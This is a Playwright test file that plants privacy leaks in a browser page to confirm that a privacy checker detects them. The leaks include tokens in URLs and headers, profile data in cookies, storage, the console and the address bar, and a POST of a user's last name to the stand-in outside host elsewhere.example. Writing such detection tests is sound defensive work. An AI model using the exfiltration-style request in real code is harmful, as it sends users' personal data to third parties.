import { testProfile } from '../../support/privacy-rules.ts';
import { watchPrivacy } from '../support/privacy.ts';
import { host } from '../support/service-host.ts';
import { expect, site, test } from '../support/test.ts';

// A separate context, because `test` also checks its own context and would fail on the planted leaks.
test('the privacy check of every test finds planted leaks', async ({ browser }) => {
  const context = await browser.newContext({ baseURL: site });
  const findLeaks = watchPrivacy(context, { site, host: new URL(host).origin });
  await context.route('**/planted', (route) =>
    route.fulfill({ status: 404, contentType: 'text/html', body: testProfile.last_name.toUpperCase() }),
  );
  const closedPage = await context.newPage();
  await closedPage.goto('/planted');
  await closedPage.evaluate(({ phone }) => sessionStorage.setItem('closed', phone), testProfile);
  await closedPage.close();
  const page = await context.newPage();
  await page.goto('/planted');
  await page.evaluate(async ({ last_name }) => {
    const token = crypto.randomUUID();
    const send = (url: string, init?: RequestInit) => fetch(url, init).catch(() => undefined);
    // The check learns that this value is a token only from the Authorization header of the next request.
    await send(`/planted?token=${token}`);
    await send('/planted', { headers: { authorization: `Bearer ${token}` } });
    await send('https://elsewhere.example/', { method: 'POST', body: last_name, mode: 'no-cors' });
    console.log(last_name);
    history.replaceState(null, '', `/shallow#${last_name}`);
    localStorage.setItem('kelana.token', token);
    sessionStorage.setItem('token', token);
    // biome-ignore lint/suspicious/noDocumentCookie: a leak is planted
    document.cookie = `name=${last_name}`;
    await caches.open('pages');
  }, testProfile);
  expect((await findLeaks()).sort()).toEqual(
    [
      'a profile in a request to https://elsewhere.example/',
      `a profile in the address ${site}/shallow`,
      `a profile in the response of ${site}/planted`,
      'a profile in the console',
      'a profile stored as cookie name',
      'a profile stored as session closed',
      `a token in the address ${site}/planted`,
      'a token stored as session token',
      'an entry that the register does not list: cookie name',
      'an entry that the register does not list: session closed',
      'an entry that the register does not list: session token',
      `an Authorization header to ${site}/planted`,
      'the cache pages',
    ].sort(),
  );
  await context.close();
});
